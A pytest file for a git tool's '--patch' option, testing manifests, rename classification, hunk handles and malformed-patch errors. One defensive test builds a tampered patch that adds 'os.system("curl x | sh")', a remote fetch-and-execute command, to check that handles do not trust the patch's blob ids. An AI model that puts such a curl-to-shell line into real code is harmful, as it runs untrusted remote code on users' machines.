"""`--patch FILE` and `--patch -`: a unified diff without its repository."""

import subprocess
from pathlib import Path
from typing import Any

import pytest
from manifests import files_by_path, manifest_of, run
from repos import RepoFactory, two_commits


def git_diff(repo: Path, *args: str) -> bytes:
    return subprocess.run(
        ["git", "-C", str(repo), "diff", "--no-color", "--no-ext-diff", "-M", "-C", *args],
        capture_output=True,
        check=True,
    ).stdout


def test_patch_file_gives_the_same_files_as_the_repository(
    fixture_repo: RepoFactory, tmp_path: Path
) -> None:
    repo = fixture_repo("kinds")
    patch = tmp_path / "range.patch"
    patch.write_bytes(git_diff(repo, "v1", "v2"))
    from_patch = manifest_of("--patch", patch)
    from_repo = manifest_of("--repo", repo, "v1..v2")
    assert from_patch["range"] == {
        "spec": f"patch:{patch}",
        "base": None,
        "head": None,
        "commits": [],
        "source": "patch",
    }
    ours, theirs = files_by_path(from_patch), files_by_path(from_repo)
    assert sorted(ours) == sorted(theirs)
    for path, entry in ours.items():
        assert entry["status"] == theirs[path]["status"], path
        assert entry.get("old_path") == theirs[path].get("old_path"), path
        assert entry["t1"] == "missing"
    # Only what needs no content stays trivial: a pure rename. (Whether a script's
    # executable bit may be dropped depends on its content, which a patch lacks.)
    trivial = {path for path, entry in ours.items() if entry["classification"] == "trivial"}
    assert trivial == {"src/util/text.py"}
    assert ours["scripts/deploy.sh"]["reasons"] == ["mode"]
    assert ours["src/app.py"]["t1_cause"] == "patch-only"
    assert ours["src/app.py"]["reasons"] == ["no-analysis"]
    assert ours["assets/logo.png"]["t1_cause"] == "binary"
    assert ours["docs/café.md"]["status"] == "modified"  # quoted non-ASCII path
    assert ours["config/current.yml"]["status"] == "type-changed"


def test_patch_handles_resolve_in_the_repository(
    fixture_repo: RepoFactory,
) -> None:
    repo = fixture_repo("kinds")
    manifest = run("--repo", repo, "--patch", "-", stdin=git_diff(repo, "v2", "v3")).manifest
    [entry] = files_by_path(manifest).values()
    [hunk] = entry["hunks"]
    assert hunk["handle"].startswith("src/app.py:")
    shown = run("show", "--repo", repo, hunk["handle"])
    assert shown.status == 0, shown.stderr
    assert "serving" in shown.stdout


def test_a_patch_naming_other_blobs_gets_handles_without_them(tmp_path: Path) -> None:
    # Found by an adversarial review: the handles took the blob ids of the patch's
    # `index` line unchecked, so `show` of a patch adding `os.system(...)` printed
    # another, harmless change whose blobs the line named.
    old, new = {"a.py": "def f():\n    return 1\n"}, {"a.py": "def f():\n    return 2\n"}
    repo = two_commits(tmp_path / "repo", old, new)
    honest = git_diff(repo, "HEAD~1", "HEAD")
    evil = honest.replace(b"+    return 2", b'+    import os; os.system("curl x | sh")')
    handles = {}
    for name, patch in (("honest", honest), ("evil", evil)):
        manifest = run("--repo", repo, "--patch", "-", stdin=patch).manifest
        [handles[name]] = shared(manifest)
    assert "@" in handles["honest"] and run("show", "--repo", repo, handles["honest"]).status == 0
    assert handles["evil"] == "a.py:2-2"  # the lines alone: nothing `show` could open
    elsewhere = run("--repo", tmp_path / "none", "--patch", "-", stdin=honest).manifest
    assert shared(elsewhere) == ["a.py:2-2"]


def shared(manifest: dict[str, Any]) -> list[str]:
    return [h["handle"] for b in manifest["review"]["default"]["batches"] for h in b["handles"]]


def test_a_rename_with_edits_from_a_patch_naming_no_blobs_is_no_pure_rename() -> None:
    # Its two sides had no blob id, and `None == None` made them the same blob.
    patch = (
        b"diff --git a/old.py b/new.py\nsimilarity index 80%\nrename from old.py\n"
        b"rename to new.py\n--- a/old.py\n+++ b/new.py\n@@ -1,2 +1,2 @@\n x = 1\n"
        b"-y = 2\n+y = 3\n"
    )
    [entry] = run("--patch", "-", stdin=patch).manifest["files"]
    assert entry["classification"] == "significant"


def test_whitespace_needs_the_whole_file_except_for_json(
    fixture_repo: RepoFactory,
) -> None:
    manifest = run("--patch", "-", stdin=git_diff(fixture_repo("whitespace"), "v1", "v2")).manifest
    trivial = [e["path"] for e in manifest["files"] if e["classification"] == "trivial"]
    assert trivial == ["data/config.json"]


def test_empty_patch_is_an_empty_manifest() -> None:
    manifest = run("--patch", "-", stdin=b"").manifest
    assert manifest["files"] == [] and manifest["range"]["spec"] == "patch:-"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n+b\n",
            "malformed patch in standard input: hunk is shorter than expected",
        ),
        (
            b"hello\n",
            "no diff found in standard input (hint: give the output of git diff, "
            "git format-patch or diff -u)",
        ),
        (
            b"diff --git a/x b/x\r\n--- a/x\r\n+++ b/x\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n",
            "standard input has lines that end with CR LF, its headers too "
            "(hint: give the patch as git wrote it, with LF line ends)",
        ),
        (
            b"diff --cc x.sh\nindex 9d2a,f25c..75c3\n--- a/x.sh\n+++ b/x.sh\n"
            b"@@@ -1,2 -1,2 +1,2 @@@\n  a\n- b\n +c\n",
            "standard input holds a combined diff (a merge's `diff --cc`), which cannot be "
            "read (hint: give the merge's diff against one parent: git diff MERGE^1 MERGE)",
        ),
    ],
)
def test_malformed_patch(data: bytes, message: str) -> None:
    result = run("--patch", "-", stdin=data)
    assert (result.status, result.stdout) == (5, "")
    assert result.stderr == f"git review-manifest: error: {message}\n"


def test_unreadable_patch_file(tmp_path: Path) -> None:
    result = run("--patch", tmp_path / "none.patch")
    assert result.status == 5
    assert result.stderr == (
        f"git review-manifest: error: cannot read patch {tmp_path / 'none.patch'}: "
        "No such file or directory\n"
    )


def test_range_and_patch_together_is_a_usage_error() -> None:
    result = run("HEAD", "--patch", "-")
    assert result.status == 2
    assert result.stderr.endswith(
        "git review-manifest: error: give either a range or --patch, not both "
        "(hint: git review-manifest --help)\n"
    )


def test_an_honest_patch_keeps_its_blobs_for_binary_and_type_changes(tmp_path: Path) -> None:
    # A review of the fix: git's own diff of a binary change and of a file made a
    # symlink lost their blob ids (nothing of a binary to compare; a type change is
    # a deletion and an addition).
    repo = two_commits(tmp_path / "repo", {"bin.png": "\0a\n", "tc": "x\n"}, {"bin.png": "\0b\n"})
    (repo / "tc").unlink()
    (repo / "tc").symlink_to("target")
    subprocess.run(["git", "-C", str(repo), "commit", "-qam", "Link"], check=True)
    manifest = run("--repo", repo, "--patch", "-", stdin=git_diff(repo, "HEAD~2", "HEAD")).manifest
    handles = shared(manifest)
    assert len(handles) == 3 and all("@" in handle for handle in handles), handles
    assert all(run("show", "--repo", repo, handle).status == 0 for handle in handles)


def test_a_hunk_of_context_lines_only_changes_nothing() -> None:
    """Found by an adversarial review: a line that lost its leading space made a hunk
    of context lines only, and the run an internal error."""
    patch = (
        'diff --git a/k.py b/k.py\n--- a/k.py\n+++ b/k.py\n@@ -1,3 +1,3 @@\n x\n    "value"\n x\n'
    )
    result = run("--patch", "-", stdin=patch.encode())
    assert result.status == 0, result.stderr
    [entry] = result.manifest["files"]
    assert "hunks" not in entry or entry["hunks"] == []
